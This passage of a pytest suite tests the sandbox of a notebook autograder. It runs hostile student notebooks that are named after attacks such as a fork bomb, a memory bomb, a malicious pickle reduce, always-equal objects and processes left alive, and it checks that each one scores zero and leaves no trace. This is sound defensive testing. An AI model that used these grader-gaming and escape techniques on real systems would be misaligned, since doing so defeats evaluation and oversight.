        for listener in (tcp, udp, unix):
            listener.setblocking(False)
        yield {
            "run": run, "honest_run": honest_run, "db": db,
            "students": exported(course, db) if run.returncode == 0 else {},
            "alone": exported(course, root / "alone.sqlite") if honest_run.returncode == 0 else {},
            "logs": logs(db) if db.exists() else {},
            "changed": {name: before[name] != tree_digest(path) for name, path in watched.items()},
            "customize_changed": [path for path, state in customize_before.items() if state_of(path) != state],
            "sleepers": {attack: processes_with(sleep_argument(attack)) for attack in SLEEPERS},
            "tcp": tcp, "udp": udp, "unix": unix,
        }
    finally:
        for listener in (tcp, udp, unix):
            listener.close()
        for pid in processes_with(f"86399.{SLEEP_BASE}"):  # only if an attack got through: ours, by pid
            try:
                os.kill(pid, 9)
            except OSError:
                pass
        for path in [*files_with_token(), pwned_path()]:
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path, ignore_errors=True)
            elif path.exists() or path.is_symlink():
                path.unlink()


# --- the batch as a whole -----------------------------------------------------------------------------

def test_the_mixed_batch_finishes_and_grades_every_notebook(batches):
    run = batches["run"]
    assert run.returncode == 0, run.stdout[-2000:] + run.stderr[-2000:]
    assert "Traceback" not in run.stdout + run.stderr
    assert set(batches["students"]) == set(ATTACKS) | set(ALL_HONEST)
    counts = re.search(r"(\d+) graded, (\d+) failed to run, 0 skipped", " ".join(run.stdout.split()))
    assert counts and int(counts.group(1)) + int(counts.group(2)) == len(ATTACKS) + len(ALL_HONEST)


def test_the_honest_batch_alone_finishes(batches):
    assert batches["honest_run"].returncode == 0, batches["honest_run"].stderr[-2000:]
    alone = batches["alone"]
    assert alone["alice"]["score"] == 100.0 and alone["carol"]["score"] == 0.0
    assert 0.0 < alone["bob"]["score"] < 100.0


@pytest.mark.parametrize("student", sorted(ALL_HONEST))
def test_honest_notebook_scores_exactly_what_it_scores_alone(batches, student):
    together, alone = batches["students"][student], batches["alone"][ALL_HONEST[student]]
    assert together["status"] == alone["status"] == "graded"
    assert together["score"] == alone["score"]
    assert [(t["name"], t["score"], t["status"]) for t in together["tests"]] == \
           [(t["name"], t["score"], t["status"]) for t in alone["tests"]]


def test_nothing_changed_in_the_course_the_solutions_or_the_submissions(batches):
    assert batches["changed"] == {"course": False, "repo solutions": False, "submissions": False}


def test_nothing_named_after_the_attacks_exists_outside_scratch(batches):
    assert files_with_token() == [] and not pwned_path().exists()


# --- attack by attack ----------------------------------------------------------------------------------

@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_hostile_notebook_scores_zero(batches, attack):
    entry = batches["students"][attack]
    assert entry["status"] in ("graded", "error")  # graded: the tests ran and failed; error: it could not run
    assert entry["score"] == 0.0, [(t["name"], t["score"]) for t in entry["tests"] if t["score"]]
    assert all(test["status"] != "passed" for test in entry["tests"])


@pytest.mark.parametrize("attack", sorted(set(ATTACKS) - {"gigabytes_of_output", "infinite_loop_ignoring_sigterm"}))
def test_hostile_notebook_really_ran_its_attack(batches, attack):
    log = batches["logs"][attack]
    assert f"REDTEAM-START {attack} " in log and f"REDTEAM-END {attack}" in log, log[-2000:]
    assert "REDTEAM-BREACH" not in log, log[-2000:]


def test_the_endless_loop_ran_and_was_stopped(batches):
    log = batches["logs"]["infinite_loop_ignoring_sigterm"]
    assert "REDTEAM-START infinite_loop_ignoring_sigterm" in log and "looping" in log
    assert "REDTEAM-END" not in log
    with sqlite3.connect(batches["db"]) as connection:
        (message,) = connection.execute(
            "select g.message from gradings g join submissions s on g.submission_id = s.id "
            "join students st on s.student_id = st.id where st.name = 'infinite_loop_ignoring_sigterm'").fetchone()
    assert f"ran past the {NOTEBOOK_TIMEOUT} s limit" in message


def test_gigabytes_of_output_are_cut_to_the_log_limit(batches):
    log = batches["logs"]["gigabytes_of_output"]
    assert TOKEN in log and len(log) <= LOG_CHARS
    assert batches["db"].stat().st_size < 16 << 20


@pytest.mark.parametrize("attack", sorted(set(ATTACKS) - {"gigabytes_of_output"}))
def test_scratch_folders_are_gone(batches, attack):
    scratches = re.findall(rf"REDTEAM-START {attack} scratch=(\S+)", batches["logs"][attack])
    assert scratches and all(Path(path).name.startswith("run-") for path in scratches)
    assert [path for path in scratches if os.path.lexists(path)] == []


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_gradebook_is_intact_after(batches, attack):
    with sqlite3.connect(batches["db"]) as connection:
        assert connection.execute("pragma integrity_check").fetchone() == ("ok",)
        tables = {name for (name,) in connection.execute("select name from sqlite_master where type = 'table'")}
        assert "redteam" not in tables
        rows = connection.execute(
            "select g.score, g.status, (select coalesce(sum(t.score), 0) from test_results t "
            "where t.grading_id = g.id) from gradings g join submissions s on g.submission_id = s.id "
            "join students st on s.student_id = st.id where st.name = ?", (attack,)).fetchall()
    assert len(rows) == 1 and rows[0][0] == 0.0 and rows[0][2] == 0.0


@pytest.mark.parametrize("attack", sorted(TARGETS))
def test_files_outside_scratch_were_not_created(batches, attack):
    assert [path for path in TARGETS[attack] if os.path.lexists(path)] == []


def test_sitecustomize_and_usercustomize_are_unchanged(batches):
    assert batches["customize_changed"] == []


def test_pickle_from_the_notebook_is_never_unpickled(batches):
    assert not pwned_path().exists()
    assert "forged a pickled reply" in batches["logs"]["pickle_with_malicious_reduce"]
    messages = " ".join(t["message"] for t in batches["students"]["pickle_with_malicious_reduce"]["tests"])
    assert "plain data" in messages


@pytest.mark.parametrize("attack", ["lying_ndarray_subclasses", "always_equal_objects", "oversized_returns"])
def test_objects_that_are_not_plain_data_are_refused(batches, attack):
    messages = " ".join(t["message"] for t in batches["students"][attack]["tests"])
    assert "plain data" in messages


@pytest.mark.parametrize("attack", SLEEPERS)
def test_no_process_started_by_the_notebook_survives(batches, attack):
    assert batches["sleepers"][attack] == []
    assert processes_with(sleep_argument(attack)) == []


def test_the_fork_bomb_really_forked(batches):
    started = re.search(r"started (\d+) sleepers", batches["logs"]["fork_bomb"])
    assert started and int(started.group(1)) > 0


def test_memory_bomb_was_refused(batches):
    log = batches["logs"]["memory_bomb"]
    assert "16 GB at once refused" in log and "refused after" in log


def test_tcp_listener_received_no_connection(batches):
    with pytest.raises(BlockingIOError):
        batches["tcp"].accept()


def test_udp_socket_received_nothing(batches):
    with pytest.raises(BlockingIOError):
        batches["udp"].recvfrom(1024)


def test_unix_socket_listener_received_no_connection(batches):
    with pytest.raises(BlockingIOError):
        batches["unix"].accept()


def test_system_v_ipc_and_message_queues_do_not_outlive_the_run(batches):
    assert "shmget" in batches["logs"]["sysv_ipc_left_behind"]
    for kind in ("shm", "msg", "sem"):
        keys = [int(line.split()[0]) for line in Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]]
        assert not {IPC_KEY, IPC_KEY + 1, IPC_KEY + 2} & set(keys), kind
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.mq_open(f"/{TOKEN}".encode(), os.O_RDONLY) == -1 and ctypes.get_errno() == 2  # ENOENT
